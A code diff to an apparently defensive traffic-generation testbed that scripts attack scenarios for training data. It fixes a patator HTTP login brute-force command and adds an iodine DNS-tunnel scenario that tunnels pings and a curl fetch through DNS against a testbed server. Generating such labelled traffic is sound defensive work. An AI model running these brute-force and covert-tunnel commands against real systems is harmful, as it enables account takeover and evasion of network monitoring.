@@ -30,7 +30,13 @@ from trafficlm.training.testbed.scenarios import (
     _curl,
     _think,
 )
-from trafficlm.training.testbed.server_programs import LOGIN_PASSWORD, LOGIN_USER, TUNNEL_ZONE
+from trafficlm.training.testbed.server_programs import (
+    IODINE_NET,
+    IODINE_ZONE,
+    LOGIN_PASSWORD,
+    LOGIN_USER,
+    TUNNEL_ZONE,
+)
 from trafficlm.training.testbed.webapp import USER as WEB_USER
 
 DIRECTORY_WORDS = (
@@ -127,7 +133,9 @@ def hydra_form(b: Budget) -> Commands:
 
 
 def patator_form(b: Budget) -> Commands:
-    return [["patator", "http_fuzz", f"url={b.url()}/login", "method=POST",
+    # resolve= given, or Debian's patator 0.9 hands libcurl an empty RESOLVE entry and fails
+    return [["patator", "http_fuzz", f"url={b.url()}/login", f"resolve={b.at()}:{b.at()}",
+             "method=POST",
              f"body=username={WEB_USER}&password=FILE0", f"0={b.wordlist}", "-t", _tasks(b),
              "-x", "ignore:fgrep=Login failed"]]
 
@@ -303,6 +311,18 @@ def icmp_tunnel(b: Budget) -> Commands:
              f"trap 'kill $p' EXIT INT TERM; sleep 2; {ssh}; {ssh}; kill $p"]]
 
 
+def iodine(b: Budget) -> Commands:
+    """iodine: an IP tunnel in DNS, record type and encoding drawn, carrying pings and a fetch."""
+    kind = b.rng.choice(("NULL", "TXT", "SRV", "MX", "CNAME", "A"))
+    encoding = b.rng.choice(("Base32", "Base64", "Base128", "Raw"))
+    tunnel = (f"iodine -f -r -P {LOGIN_PASSWORD} -T {kind} -O {encoding} -I 1 "
+              f"{b.at('dns_tunnel_server')} {IODINE_ZONE}")
+    work = (f"ping -c {b.rng.choice((10, 20, 40))} -i 0.3 -W 1 {IODINE_NET}; "
+            f"curl -s -o /dev/null --max-time 8 http://{IODINE_NET}/ || true")
+    return [["sh", "-c", f"{tunnel} & p=$!; trap 'kill $p' EXIT INT TERM; sleep 4; {work}; "
+             "kill $p"]]
+
+
 def curl_variants(name: str) -> Callable[[Budget], Commands]:
     return SCENARIOS[name].build
 
@@ -377,7 +397,8 @@ ATTACK_SLOTS: dict[str, tuple[Scenario, ...]] = {
                                    ("curl",), command_injection, "shell metacharacters"),),
     "dns_tunnel": (
         _variant("dig_base32", "DNS Tunnel", ("dig",), curl_variants("dns_tunnel"), "base32 dig"),
-        _variant("dig_encoders", "DNS Tunnel", ("dig",), dns_encoder, "encoder and type drawn")),
+        _variant("dig_encoders", "DNS Tunnel", ("dig",), dns_encoder, "encoder and type drawn"),
+        _variant("iodine", "DNS Tunnel", ("iodine",), iodine, "iodine, type and encoding drawn")),
     "icmp_tunnel": (_variant("ptunnel-ng", "ICMP Tunnel", ("ptunnel-ng", "sshpass"), icmp_tunnel,
                              "SSH inside ICMP echo"),),
     "c2_beacon": (_variant("curl_beacon", "C2 Beacon", ("curl",), beacon,
